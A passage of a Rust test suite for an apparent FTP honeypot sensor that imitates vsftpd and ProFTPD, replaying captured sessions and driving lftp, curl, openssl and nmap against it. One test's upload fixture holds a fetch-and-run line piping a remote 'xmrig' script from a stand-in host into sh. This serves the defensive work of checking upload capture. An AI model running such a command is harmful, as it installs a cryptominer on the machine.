                None => pairs.push((String::new(), vec![reply.to_owned()])),
            }
        }
    }
    pairs
}

/// Replays a capture section through [`FTPS_CLIENT`] as `root` (the capture's local user
/// is `ftptest`) and compares every reply, with the lines that name the client, the user
/// or the client count masked.
async fn replay_ftps_section(harness: &Harness, start: &str) {
    let expected: Vec<(String, Vec<String>)> = capture_section("tls.txt", start)
        .into_iter()
        .map(|(command, lines)| {
            let command = match command.as_str() {
                "USER ftptest" => "USER root".to_owned(),
                "PASS ftptest" => "PASS hunter2".to_owned(),
                _ => command,
            };
            (command, lines)
        })
        .collect();
    assert!(expected.len() > 5, "the capture has the section {start:?}");
    let commands: Vec<&str> = expected
        .iter()
        .skip(1)
        .map(|(command, _)| command.as_str())
        .collect();
    let mut python = std::process::Command::new("python3");
    python
        .args([
            "-c",
            FTPS_CLIENT,
            "127.0.0.1",
            &harness.addr.port().to_string(),
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let input = serde_json::to_vec(&commands).unwrap();
    let output = tokio::task::spawn_blocking(move || {
        use std::io::Write as _;
        let mut child = python.spawn().unwrap();
        child.stdin.take().unwrap().write_all(&input).unwrap();
        child.wait_with_output().unwrap()
    })
    .await
    .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let answered: Vec<(String, Option<Vec<String>>)> =
        serde_json::from_slice(&output.stdout).unwrap();
    let mask = |lines: &[String]| -> Vec<String> {
        lines
            .iter()
            .map(|l| {
                if l.starts_with("     Connected to ")
                    || l.starts_with("     Logged in as ")
                    || l.starts_with("     At session startup, client count was ")
                {
                    l.rsplit_once(' ')
                        .map_or(l.clone(), |(head, _)| head.to_owned())
                } else {
                    l.clone()
                }
            })
            .collect()
    };
    let replies: Vec<(String, Vec<String>)> = answered
        .into_iter()
        .filter(|(command, _)| command != "#tls")
        .map(|(command, lines)| (command, lines.unwrap_or_default()))
        .collect();
    assert_eq!(replies.len(), expected.len(), "{replies:#?}");
    for ((command, got), (_, want)) in replies.iter().zip(&expected) {
        assert_eq!(mask(got), mask(want), "the reply to {command:?}");
    }
}

/// Explicit FTPS as the real vsftpd with `ssl_enable=YES` answers it
/// (`testdata/ftp/vsftpd-3.0.3/tls.txt`): FEAT, every AUTH, PBSZ and PROT variant and
/// CCC before TLS, over TLS before and after a login, and in plain text after one;
/// STAT's lines about encryption.
#[tokio::test]
async fn ftps_replies_match_a_real_vsftpd_in_every_state() {
    if !python_ftplib_available() {
        return tool_missing("python3");
    }
    let harness = Harness::start(|c| c.tls = Some(Default::default())).await;
    for section in [
        "# --- plaintext, before login ---",
        "# --- TLS up, not logged in ---",
        "# --- plaintext login (allowed",
        "# --- plaintext anonymous login, then AUTH TLS",
        "# --- fresh connection: AUTH SSL ---",
        "# --- fresh connection: AUTH tls-p ---",
    ] {
        replay_ftps_section(&harness, section).await;
    }
    let events = harness.wait_closed(6).await;
    // The TLS clients' hellos are fingerprinted; AUTH is a command like any other.
    assert!(events.iter().any(|e| matches!(
        &e.kind,
        EventKind::ClientFingerprint { method, fingerprint, .. }
            if method == "ja4" && fingerprint.starts_with("t13")
    )));
    assert!(events.iter().any(|e| matches!(
        &e.kind,
        EventKind::CommandInput { command } if command == "AUTH TLS"
    )));
    harness.stop().await;
}

/// Without `tls` the sensor is the stock vsftpd: FEAT lists no AUTH, and AUTH is not a
/// command before a login.
#[tokio::test]
async fn without_tls_auth_is_refused_as_by_a_stock_vsftpd() {
    let harness = Harness::start(|_| {}).await;
    let mut control = Control::connect(harness.addr).await;
    assert_eq!(control.reply().await, ["220 (vsFTPd 3.0.3)"]);
    assert!(
        !control
            .send("FEAT")
            .await
            .iter()
            .any(|l| l.contains("AUTH"))
    );
    assert_eq!(
        control.send("AUTH TLS").await,
        ["530 Please login with USER and PASS."]
    );
    harness.stop().await;
}

/// A client that answers `234` with plain text gets OpenSSL's error as vsftpd writes
/// it, and the close.
#[tokio::test]
async fn plain_text_instead_of_a_client_hello_gets_vsftpds_oops_and_the_close() {
    let harness = Harness::start(|c| c.tls = Some(Default::default())).await;
    let mut control = Control::connect(harness.addr).await;
    assert_eq!(control.reply().await, ["220 (vsFTPd 3.0.3)"]);
    assert_eq!(
        control.send("AUTH TLS").await,
        ["234 Proceed with negotiation."]
    );
    assert_eq!(
        control.send("USER anonymous").await,
        ["500 OOPS: error:0A00010B:SSL routines::wrong version number"]
    );
    assert!(control.closed().await);
    harness.stop().await;
}

/// Python's `FTP_TLS` does not resume the control connection's TLS session on its data
/// connections: the real vsftpd (`require_ssl_reuse=YES`) and the sensor both refuse
/// with `522` and end the session; with the usual subclass that passes the session on,
/// as lftp and curl (below) do, the listing comes.
#[tokio::test]
async fn a_data_connection_without_session_reuse_gets_522_and_the_session_ends() {
    if !python_ftplib_available() {
        return tool_missing("python3");
    }
    let harness = Harness::start(|c| c.tls = Some(Default::default())).await;
    let script = r##"
import ftplib, ssl, sys
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
ftp = ftplib.FTP_TLS(context=context)
ftp.connect(sys.argv[1], int(sys.argv[2]), timeout=20)
print("AUTH", ftp.auth())
print("LOGIN", ftp.login("root", "hunter2"))
print("PROT", ftp.prot_p())
try:
    ftp.nlst()
except ftplib.all_errors as e:
    print("NLST", e)
try:
    ftp.voidcmd("NOOP")
    print("NOOP answered")
except (EOFError, OSError, ftplib.Error) as e:
    print("CLOSED", type(e).__name__)

# The usual fix: the data connection resumes the control connection's session.
class Reusing(ftplib.FTP_TLS):
    def ntransfercmd(self, cmd, rest=None):
        conn, size = ftplib.FTP.ntransfercmd(self, cmd, rest)
        if self._prot_p:
            conn = self.context.wrap_socket(conn, server_hostname=self.host,
                                            session=self.sock.session)
        return conn, size
ftp = Reusing(context=context)
ftp.connect(sys.argv[1], int(sys.argv[2]), timeout=20)
ftp.auth()
ftp.login("root", "hunter2")
ftp.prot_p()
print("REUSED NLST", sorted(ftp.nlst()))
print("QUIT", ftp.quit())
"##;
    let mut python = std::process::Command::new("python3");
    python.args(["-c", script, "127.0.0.1", &harness.addr.port().to_string()]);
    let output = run_client(python).await;
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        stdout.contains("AUTH 234 Proceed with negotiation."),
        "{stdout}"
    );
    assert!(stdout.contains("PROT 200 PROT now Private."), "{stdout}");
    assert!(
        stdout.contains("NLST 522 SSL connection failed: session reuse required"),
        "{stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(stdout.contains("CLOSED"), "{stdout}");
    assert!(stdout.contains("REUSED NLST ["), "{stdout}");
    assert!(stdout.contains("QUIT 221 Goodbye."), "{stdout}");
    harness.stop().await;
}

/// lftp as it comes: it sees `AUTH TLS` in FEAT and upgrades, then refuses the
/// self-signed certificate exactly as against the real vsftpd; told not to verify, it
/// logs in, protects the data, puts, lists and gets over TLS.
#[tokio::test]
async fn lftp_upgrades_to_tls_and_puts_lists_and_gets() {
    if std::process::Command::new("lftp")
        .arg("--version")
        .output()
        .is_err()
    {
        return tool_missing("lftp");
    }
    let harness = Harness::start(|c| c.tls = Some(Default::default())).await;
    let work = tempfile::tempdir().unwrap();
    let payload = b"#!/bin/sh\ncurl -s http://198.51.100.7/xmrig | sh\n";
    std::fs::write(work.path().join("miner.sh"), payload).unwrap();
    let lftp = |settings: &str| {
        let commands = format!(
            "set net:max-retries 1; set net:timeout 10; {settings} \
             open -u root,hunter2 -p {} 127.0.0.1; put miner.sh; ls; get miner.sh -o back.sh; bye",
            harness.addr.port()
        );
        let mut lftp = std::process::Command::new("lftp");
        lftp.args(["-c", &commands]).current_dir(work.path());
        lftp
    };
    let refused = run_client(lftp("")).await;
    assert!(!refused.status.success());
    assert!(
        String::from_utf8_lossy(&refused.stderr)
            .contains("Certificate verification: The certificate is NOT trusted"),
        "{}",
        String::from_utf8_lossy(&refused.stderr)
    );
    let output = run_client(lftp("set ssl:verify-certificate no;")).await;
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        output.status.success(),
        "lftp failed: {stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(
        stdout.contains(" miner.sh"),
        "ls shows the upload: {stdout}"
    );
    assert_eq!(std::fs::read(work.path().join("back.sh")).unwrap(), payload);
    let events = harness.wait_closed(2).await;
    let commands: Vec<&str> = events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::CommandInput { command } => Some(command.as_str()),
            _ => None,
        })
        .collect();
    for expected in ["AUTH TLS", "PBSZ 0", "PROT P"] {
        assert!(commands.contains(&expected), "{commands:?}");
    }
    let digest = format!("{:x}", Sha256::digest(payload));
    assert!(events.iter().any(|e| matches!(
        &e.kind,
        EventKind::FileUpload { sha256: Some(sha), .. } if *sha == digest
    )));
    harness.stop().await;
}

/// curl's explicit FTPS (`--ssl-reqd`, which sends `AUTH SSL`): an upload, captured by
/// its SHA-256, and a listing, over TLS data connections that resume the control
/// session.
#[tokio::test]
async fn curl_ssl_reqd_uploads_and_lists() {
    if !hpti_core::testing::require_tool("curl") {
        return;
    }
    let harness = Harness::start(|c| c.tls = Some(Default::default())).await;
    let work = tempfile::tempdir().unwrap();
    std::fs::write(work.path().join("x.sh"), b"echo pwned\n").unwrap();
    let url = format!("ftp://root:hunter2@127.0.0.1:{}/", harness.addr.port());
    let mut upload = std::process::Command::new("curl");
    upload
        .args(["-sS", "--ssl-reqd", "-k", "-T", "x.sh", &url])
        .current_dir(work.path());
    let output = run_client(upload).await;
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let mut list = std::process::Command::new("curl");
    // `%2F`: an absolute path (curl walks the others from the login directory).
    list.args(["-sS", "--ssl-reqd", "-k", &format!("{url}%2Fetc/")]);
    let output = run_client(list).await;
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let listing = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(listing.lines().any(|l| l.ends_with(" passwd")), "{listing}");
    let events = harness.wait_closed(2).await;
    let digest = format!("{:x}", Sha256::digest(b"echo pwned\n"));
    assert!(events.iter().any(|e| matches!(
        &e.kind,
        EventKind::FileUpload { filename, sha256: Some(sha), .. }
            if *sha == digest && filename == "/root/x.sh"
    )));
    assert!(events.iter().any(|e| matches!(
        &e.kind,
        EventKind::CommandInput { command } if command == "AUTH SSL"
    )));
    harness.stop().await;
}

/// The handshake as vsftpd's OpenSSL makes it: only P-256 (a client offering X25519
/// first is asked again), no ALPN; TLS 1.1 is refused.
#[tokio::test]
async fn openssl_sees_vsftpds_handshake() {
    if !hpti_core::testing::require_tool("openssl") {
        return;
    }
    let harness = Harness::start(|c| c.tls = Some(Default::default())).await;
    let connect = format!("127.0.0.1:{}", harness.addr.port());
    let s_client = |extra: &[&str]| {
        let mut openssl = std::process::Command::new("openssl");
        openssl
            .args(["s_client", "-starttls", "ftp", "-connect", &connect])
            .args(extra)
            .stdin(std::process::Stdio::null());
        openssl
    };
    let output = run_client(s_client(&[])).await;
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        text.contains("Server Temp Key: ECDH, prime256v1, 256 bits"),
        "{text}"
    );
    assert!(text.contains("No ALPN negotiated"), "{text}");
    assert!(text.contains("TLSv1.3"), "{text}");
    let output = run_client(s_client(&["-tls1_1"])).await;
    assert!(!output.status.success());
    harness.stop().await;
}

/// `nmap -sV -sC` on the FTPS sensor: still `vsftpd 3.0.3`, and the TLS scripts see the
/// certificate as on the real one (`testdata/ftp/vsftpd-3.0.3/nmap-tls.txt`).
#[tokio::test]
async fn nmap_names_the_ftps_sensor_vsftpd_and_reads_its_certificate() {
    if !hpti_core::testing::require_tool("nmap") {
        return;
    }
    let harness = Harness::start(|c| c.tls = Some(Default::default())).await;
    let mut nmap = std::process::Command::new("nmap");
    nmap.args([
        "-sV",
        "-sC",
        "-Pn",
        "-p",
        &harness.addr.port().to_string(),
        "127.0.0.1",
    ]);
    let output = run_client(nmap).await;
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        text.lines()
            .any(|l| l.contains("/tcp") && l.contains(" ftp ") && l.ends_with("vsftpd 3.0.3")),
        "{text}"
    );
    assert!(text.contains("| ssl-cert: Subject: commonName="), "{text}");
    assert!(
        text.contains("ftp-anon: Anonymous FTP login allowed"),
        "{text}"
    );
    harness.stop().await;
}

// ---------------------------------------------------------------------------------
// The ProFTPD persona, against a real ProFTPD 1.3.8's captures
// (`testdata/ftp/proftpd-1.3.8/`).

fn proftpd_capture(file: &str) -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../testdata/ftp/proftpd-1.3.8")
        .join(file);
    std::fs::read_to_string(path).unwrap()
}

/// A Python bytes literal as `raw-replies.json` holds them (`b'...'` or `b"..."`).
fn python_bytes(literal: &str) -> Vec<u8> {
    let body = &literal[2..literal.len() - 1];
    let bytes = body.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] != b'\\' {
            out.push(bytes[i]);
            i += 1;
            continue;
        }
        match bytes[i + 1] {
            b'n' => out.push(b'\n'),
            b'r' => out.push(b'\r'),
            b't' => out.push(b'\t'),
            b'x' => {
                let hex = std::str::from_utf8(&bytes[i + 2..i + 4]).unwrap();
                out.push(u8::from_str_radix(hex, 16).unwrap());
                i += 2;
            }
            other => out.push(other),
        }
        i += 2;
    }
    out
}

/// What a raw read of the control connection found.
#[derive(Debug, PartialEq)]
enum Heard {
    Line(Vec<u8>),
    Closed,
    Silence,
}

/// A control connection read as bytes (ProFTPD echoes what it is sent, 8-bit included).
struct RawControl {
    reader: BufReader<tokio::net::tcp::OwnedReadHalf>,
    writer: tokio::net::tcp::OwnedWriteHalf,
}

impl RawControl {
    async fn connect(addr: SocketAddr) -> Self {
        let (read, writer) = TcpStream::connect(addr).await.unwrap().into_split();
        Self {
            reader: BufReader::new(read),
            writer,
        }
    }

    async fn hear(&mut self, wait: Duration) -> Heard {
        let mut line = Vec::new();
        match tokio::time::timeout(wait, self.reader.read_until(b'\n', &mut line)).await {
            Ok(Ok(0)) | Ok(Err(_)) => Heard::Closed,
            Ok(Ok(_)) => Heard::Line(line),
            Err(_) => Heard::Silence,
        }
    }

    async fn send(&mut self, bytes: &[u8]) {
        self.writer.write_all(bytes).await.unwrap();
    }
}

/// The variable part of a captured line: the local time of the welcome message.
fn masked(line: &[u8]) -> Vec<u8> {
    match line.windows(19).position(|w| w == b"The local time is: ") {
        Some(at) => line[..at + 19].to_vec(),
        None => line.to_vec(),
    }
}

/// Replays one section of `raw-replies.json` (each `b''` greeting opens a connection)
/// byte for byte and compares every line the sensor sends with the real server's.
/// `skip` leaves out a connection (by its exchanges) that a replay cannot reproduce.
async fn replay_raw(
    addr: SocketAddr,
    section: &str,
    skip: impl Fn(&[serde_json::Value]) -> bool,
) -> usize {
    let json: serde_json::Value =
        serde_json::from_str(&proftpd_capture("raw-replies.json")).unwrap();
    let exchanges = json[section].as_array().unwrap();
    let mut connections: Vec<Vec<serde_json::Value>> = Vec::new();
    for exchange in exchanges {
        let greeting = exchange["sent"] == "b''" && exchange["reply"][0].is_string();
        if greeting {
            connections.push(Vec::new());
        }
        if let Some(connection) = connections.last_mut() {
            connection.push(exchange.clone());
        }
    }
    let mut compared = 0;
    for connection in connections.iter().filter(|c| !skip(c)) {
        let mut control = RawControl::connect(addr).await;
        for exchange in connection {
            let sent = python_bytes(exchange["sent"].as_str().unwrap());
            control.send(&sent).await;
            let shown: String = String::from_utf8_lossy(&sent).chars().take(60).collect();
            let what = format!("{section}: after sending {} bytes {shown:?}", sent.len());
            for reply in exchange["reply"].as_array().unwrap() {
                match reply {
                    // Nothing within the capture's wait.
                    serde_json::Value::Null => {
                        if !sent.is_empty() {
                            let heard = control.hear(Duration::from_millis(600)).await;
                            assert!(
                                !matches!(heard, Heard::Line(_)),
                                "{what}: the real server said nothing, the sensor {heard:?}"
                            );
                        }
                    }
                    // The server closed the connection.
                    serde_json::Value::Bool(false) => {
                        let heard = control.hear(Duration::from_secs(5)).await;
                        assert_eq!(heard, Heard::Closed, "{what}: the real server closed");
                    }
                    line => {
                        let want = python_bytes(line.as_str().unwrap());
                        let heard = control.hear(Duration::from_secs(5)).await;
                        let Heard::Line(got) = heard else {
                            panic!(
                                "{what}: wanted {:?}, heard {heard:?}",
                                String::from_utf8_lossy(&want)
                                    .chars()
                                    .take(200)
                                    .collect::<String>()
                            );
                        };
                        assert!(
                            masked(&got) == masked(&want),
                            "{what}: wanted {:?}, got {:?}",
                            String::from_utf8_lossy(&want)
                                .chars()
                                .take(200)
                                .collect::<String>(),
                            String::from_utf8_lossy(&got)
                                .chars()
                                .take(200)
                                .collect::<String>(),
                        );
                        compared += 1;
                    }
                }
            }
        }
    }
    compared
}

/// Uploads `content` as `name` over a passive data connection of a logged-in control
/// connection.
async fn put_file(ftp: &mut Control, name: &str, content: &[u8]) {
    let pasv = ftp.send("PASV").await;
    let port = passive_port(&pasv[0]);
    let stor = format!("STOR {name}");
    ftp.writer
        .write_all(format!("{stor}\r\n").as_bytes())
        .await
        .unwrap();
    let mut data = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
    let opening = ftp.reply().await;
    assert!(opening[0].starts_with("150 "), "{stor}: {opening:?}");
    data.write_all(content).await.unwrap();
    drop(data);
    let done = ftp.reply().await;
    assert_eq!(done, ["226 Transfer complete"], "{stor}");
}

/// The anonymous root of the captures (`anonymous.txt`'s header), made by a first
/// anonymous login (which creates `/srv/ftp` as Debian's package does) and uploads of
/// `root` into it: same names and sizes.
async fn lay_out_anonymous_root(harness: &Harness) {
    let addr = harness.addr;
    let mut ftp = Control::connect(addr).await;
    ftp.reply().await;
    ftp.send("USER anonymous").await;
    assert_eq!(
        ftp.send("PASS x@").await.last().unwrap(),
        "230 Anonymous access granted, restrictions apply"
    );
    ftp.send("QUIT").await;
    // The session's view of the host is kept for the address when it has ended.
    harness.wait_closed(1).await;
    let mut ftp = Control::connect(addr).await;
    ftp.reply().await;
    ftp.send("USER root").await;
    assert_eq!(ftp.send("PASS hunter2").await, ["230 User root logged in"]);
    ftp.send("TYPE I").await;
    ftp.send("CWD /srv/ftp").await;
    for dir in ["incoming", "pub"] {
        let made = ftp.send(&format!("MKD {dir}")).await;
        assert!(made[0].starts_with("257 "), "{made:?}");
    }
    put_file(
        &mut ftp,
        "README.txt",
        b"Welcome to the FTP archive.\nThis is a test file.\n",
    )
    .await;
    put_file(
        &mut ftp,
        "pub/.message",
        b"This is pub/.message (DisplayChdir test).\n",
    )
    .await;
    put_file(&mut ftp, "pub/data.bin", &[7u8; 6756]).await;
    put_file(&mut ftp, "pub/hello.txt", b"hello world\n").await;
    put_file(&mut ftp, "pub/old-release.tar.gz", &[0u8; 18]).await;
    // The capture's times (`LIST -t` sorts by them).
    for (time, path) in [
        ("20261207023809", "README.txt"),
        ("20261207020451", "pub"),
        ("20211102090000", "incoming"),
        ("20260413205132", "welcome.msg"),
        ("20190314100000", "pub/old-release.tar.gz"),
    ] {
        let set = ftp.send(&format!("MFMT {time} {path}")).await;
        assert_eq!(set, [format!("213 Modify={time}; {path}")]);
    }
    ftp.send("QUIT").await;
    harness.wait_closed(2).await;
}

/// Every byte the real ProFTPD sent before a login, on long and strange lines, and
/// around failed logins (`raw-replies.json`), sent again to the sensor.
#[tokio::test]
async fn proftpd_replies_match_the_captures_byte_for_byte() {
    let harness = Harness::start_proftpd(|_| {}).await;
    lay_out_anonymous_root(&harness).await;
    let mut compared = replay_raw(harness.addr, "pre-login", |_| false).await;
    // The connection that split CR and LF over two TCP segments: the JSON keeps the
    // bytes, not the segments (the split is tested below).
    let segmented = |connection: &[serde_json::Value]| {
        connection
            .iter()
            .any(|e| e["sent"] == "b'NOOP\\r\\n'" && e["reply"][0].is_null())
    };
    compared += replay_raw(harness.addr, "line-length", segmented).await;
    compared += replay_raw(harness.addr, "failed-login", |_| false).await;
    assert!(compared > 250, "{compared} lines compared");
    harness.stop().await;
}

/// A CR that ends one TCP segment does not end a line when the LF comes in the next
/// (`line-length.txt`, "a command split over several TCP segments").
#[tokio::test]
async fn proftpd_needs_cr_and_lf_in_one_segment() {
    let harness = Harness::start_proftpd(|_| {}).await;
    let mut control = RawControl::connect(harness.addr).await;
    control.hear(PATIENCE).await;
    control.send(b"NO").await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    control.send(b"OP\r\n").await;
    assert_eq!(
        control.hear(PATIENCE).await,
        Heard::Line(b"200 NOOP command successful\r\n".to_vec())
    );
    control.send(b"NOOP\r").await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    control.send(b"\n").await;
    assert_eq!(
        control.hear(Duration::from_millis(800)).await,
        Heard::Silence
    );
    control.send(b"SYST\r\n").await;
    assert_eq!(
        control.hear(PATIENCE).await,
        Heard::Line(b"200 NOOP command successful\r\n".to_vec()),
        "the SYST is swallowed into the NOOP line"
    );
    harness.stop().await;
}

/// Lines of the sensor and of the capture with what differs between two hosts masked:
/// dates and times, passive ports, `modify=`/`unique=` facts, the welcome's clock.
fn mask_anonymous(line: &str) -> String {
    let mut out = line.to_owned();
    if let Some(at) = out.find("The local time is: ") {
        out.truncate(at + 19);
    }
    if out.starts_with("227 Entering Passive Mode") || out.starts_with("229 Entering") {
        return out[..out.find('(').unwrap()].to_owned();
    }
    // STOU's random `ftpXXXXXX`.
    if out.starts_with("550 ftp") && out[4..].find(':') == Some(9) {
        out.replace_range(7..13, "XXXXXX");
    }
    if out.starts_with("150 FILE: ftp") && out.len() == 19 {
        out.replace_range(13.., "XXXXXX");
    }
    if out.starts_with("213 20") || out.starts_with("213 19") {
        return "213 <time>".to_owned();
    }
    for fact in ["modify=", "unique="] {
        while let Some(at) = out.find(fact) {
            let end = out[at..].find(';').map_or(out.len(), |e| at + e);
            out.replace_range(at..end, &format!("<{}>", &fact[..fact.len() - 1]));
        }
    }
    // `Dec  7 02:38` or `Nov  2  2021` in a listing line.
    let bytes = out.as_bytes();
    for at in 0..bytes.len().saturating_sub(12) {
        let month = &out[at..at + 3];
        let months = [
            "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
        ];
        if months.contains(&month) && bytes[at + 3] == b' ' && out.len() >= at + 12 {
            let tail = &out[at + 7..at + 12];
            let time = tail.as_bytes()[0] == b' ' || tail.as_bytes()[2] == b':';
            if time {
                out.replace_range(at..at + 12, "<date>");
                break;
            }
        }
    }
    out
}

/// One command of a capture, what the server answered, what came over the data
/// connection (`D:` lines) and how many bytes the client sent on it.
struct Step {
    command: String,
    replies: Vec<String>,
    data: Vec<String>,
    client_sent: Option<usize>,
}

/// The steps of a capture from the line starting with `start` to the one starting with
/// `end` (the greeting, if inside, is a step without a command).
fn capture_steps(text: &str, start: &str, end: Option<&str>) -> Vec<Step> {
    let mut steps: Vec<Step> = Vec::new();
    let mut inside = false;
    for line in text.lines() {
        if !inside {
            inside = line.starts_with(start);
            continue;
        }
        if end.is_some_and(|end| line.starts_with(end)) {
            break;
        }
        let new_step = |command: &str| Step {
            command: command.to_owned(),
            replies: Vec::new(),
            data: Vec::new(),
            client_sent: None,
        };
        if let Some(command) = line.strip_prefix("C: ") {
            steps.push(new_step(command));
            continue;
        }
        if steps.is_empty() && line.starts_with("S: ") {
            steps.push(new_step(""));
        }
        let Some(step) = steps.last_mut() else {
            continue;
        };
        if let Some(reply) = line.strip_prefix("S: ") {
            step.replies.push(reply.to_owned());
        } else if let Some(data) = line.strip_prefix("D: ") {
            step.data.push(data.to_owned());
        } else if let Some(rest) = line.strip_prefix("# (client sent ") {
            step.client_sent = rest.split(' ').next().and_then(|n| n.parse().ok());
        }
    }
    steps
}

/// Sends each step's command and compares the replies and the data-connection lines
/// with the capture's, masked ([`mask_anonymous`]). Passive and active data
/// connections are made as the capture's client made them; an upload sends
/// `payload(command, bytes the capture's client sent)`. Returns the lines compared.
async fn replay_steps(
    ftp: &mut Control,
    steps: &[Step],
    payload: impl Fn(&str, usize) -> Vec<u8>,
) -> usize {
    let mut compared = 0;
    let mut data: Option<tokio::task::JoinHandle<Vec<u8>>> = None;
    for (i, step) in steps.iter().enumerate() {
        let mut command = step.command.clone();
        let next = steps.get(i + 1);
        let transfer_follows =
            next.is_some_and(|n| n.replies.first().is_some_and(|r| r.starts_with("150 ")));
        let upload = next.filter(|_| transfer_follows).and_then(|n| {
            ["STOR", "STOU", "APPE"]
                .iter()
                .any(|v| n.command.starts_with(v))
                .then(|| match n.data.is_empty() {
                    true => payload(&n.command, n.client_sent.unwrap_or(0)),
                    // What the capture's client sent, line by line.
                    false => n
                        .data
                        .iter()
                        .flat_map(|l| [l.as_bytes(), b"\r\n"])
                        .flatten()
                        .copied()
                        .collect(),
                })
        });
        let local_port =
            command.starts_with("PORT 127,0,0,1,") || command.starts_with("EPRT |1|127.0.0.1|");
        let active = transfer_follows && local_port && step.replies[0].starts_with("200 ");
        let mut listener = None;
        if active {
            let bound = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            let port = bound.local_addr().unwrap().port();
            command = if command.starts_with("PORT") {
                format!("PORT 127,0,0,1,{},{}", port >> 8, port & 0xff)
            } else {
                format!("EPRT |1|127.0.0.1|{port}|")
            };
            listener = Some(bound);
        }
        ftp.writer
            .write_all(format!("{command}\r\n").as_bytes())
            .await
            .unwrap();
        let mut got = ftp.reply().await;
        let passive = got[0].starts_with("227 ") || got[0].starts_with("229 ");
        if passive || listener.is_some() {
            let port = match got[0].get(..4) {
                Some("227 ") => passive_port(&got[0]),
                Some("229 ") => got[0].split('|').nth(3).unwrap().parse().unwrap(),
                _ => 0,
            };
            if let Some(old) = data.take() {
                old.abort();
            }
            data = Some(tokio::spawn(async move {
                let stream = match listener {
                    Some(listener) => listener.accept().await.ok().map(|(s, _)| s),
                    None => TcpStream::connect(("127.0.0.1", port)).await.ok(),
                };
                let mut bytes = Vec::new();
                if let Some(mut stream) = stream {
                    match upload {
                        Some(upload) => {
                            let _ = stream.write_all(&upload).await;
                        }
                        None => {
                            let _ = stream.read_to_end(&mut bytes).await;
                        }
                    }
                }
                bytes
            }));
        }
        if got[0].starts_with("150 ") {
            got.extend(ftp.reply().await);
        }
        let want: Vec<String> = step.replies.iter().map(|l| mask_anonymous(l)).collect();
        let got_lines: Vec<String> = got.iter().map(|l| mask_anonymous(l)).collect();
        assert_eq!(got_lines, want, "the reply to {command}");
        compared += want.len();
        // What came over the data connection, where the capture shows it.
        let uploaded = ["STOR", "STOU", "APPE"]
            .iter()
            .any(|v| command.starts_with(v));
        if got.last().is_some_and(|l| l.starts_with("226 ")) && !step.data.is_empty() && !uploaded {
            let bytes = data.take().unwrap().await.unwrap();
            let text = String::from_utf8(bytes).unwrap();
            let listing = ["LIST", "NLST", "MLSD"]
                .iter()
                .any(|l| command.starts_with(l));
            let ascii_retr = got[0].contains("ASCII mode") && text.contains('\n');
            if listing || ascii_retr {
                assert!(
                    text.ends_with("\r\n"),
                    "{command}: CRLF line ends: {text:?}"
                );
            }
            let mut got: Vec<String> = text
                .lines()
                .map(|l| mask_anonymous(l.trim_end_matches('\r')))
                .collect();
            let mut want: Vec<String> = step.data.iter().map(|l| mask_anonymous(l)).collect();
            // NLST and MLSD send the directory's order, which is the real disk's.
            if command.starts_with("NLST") || command.starts_with("MLSD") {
                got.sort();
                want.sort();
            }
            assert_eq!(got, want, "the data of {command}");
            compared += want.len();
        }
    }
    compared
}

/// The whole anonymous session of `anonymous.txt` (every command of the issue, the
/// refusals, listings on both connections, MLSD/MLST, STAT) replayed against the
/// sensor over an anonymous root laid out like the capture's: every reply and listing
/// line equal but for dates, passive ports and inode numbers.
#[tokio::test]
async fn proftpd_anonymous_session_matches_the_capture() {
    let harness = Harness::start_proftpd(|_| {}).await;
    lay_out_anonymous_root(&harness).await;
    let text = proftpd_capture("anonymous.txt");
    let steps = capture_steps(&text, "# connect", None);
    let mut ftp = Control::connect(harness.addr).await;
    assert_eq!(ftp.reply().await, steps[0].replies, "the greeting");
    let compared = replay_steps(&mut ftp, &steps[1..], |_, n| vec![b'x'; n]).await;
    assert!(compared > 300, "{compared} lines compared");
    // `HELP <command>` for every command, `SITE HELP <command>`, before and after a
    // login (`help.txt`).
    let text = proftpd_capture("help.txt");
    let steps = capture_steps(&text, "# connect", None);
    let mut ftp = Control::connect(harness.addr).await;
    assert_eq!(ftp.reply().await, steps[0].replies, "the greeting");
    let compared = replay_steps(&mut ftp, &steps[1..], |_, n| vec![b'x'; n]).await;
    assert!(compared > 150, "{compared} lines compared");
    harness.stop().await;
}

/// A local user's uploads, directory operations, renames and every SITE command of
/// `local-user.txt`, replayed in one session as there: same replies (TYPE A uploads
/// lose their CRs, APPE and REST+STOR are refused, `/etc` is not writable, mod_copy
/// copies `/etc/passwd`).
#[tokio::test]
async fn proftpd_local_user_session_matches_the_capture() {
    let harness = Harness::start_proftpd(|_| {}).await;
    let mut ftp = Control::connect(harness.addr).await;
    ftp.reply().await;
    ftp.send("USER ftptest").await;
    assert_eq!(
        ftp.send("PASS ftptest").await,
        ["230 User ftptest logged in"]
    );
    assert_eq!(
        ftp.send("PWD").await,
        ["257 \"/home/ftptest\" is the current directory"]
    );
    // The capture's home: `docs/` and `notes.txt` are what these sections touch.
    assert!(ftp.send("MKD docs").await[0].starts_with("257 "));
    ftp.send("TYPE I").await;
    put_file(&mut ftp, "notes.txt", b"notes\n").await;
    ftp.send("QUIT").await;
    // A new session (`SITE RATIO` counts its own files), on the host as left.
    harness.wait_closed(1).await;
    let mut ftp = Control::connect(harness.addr).await;
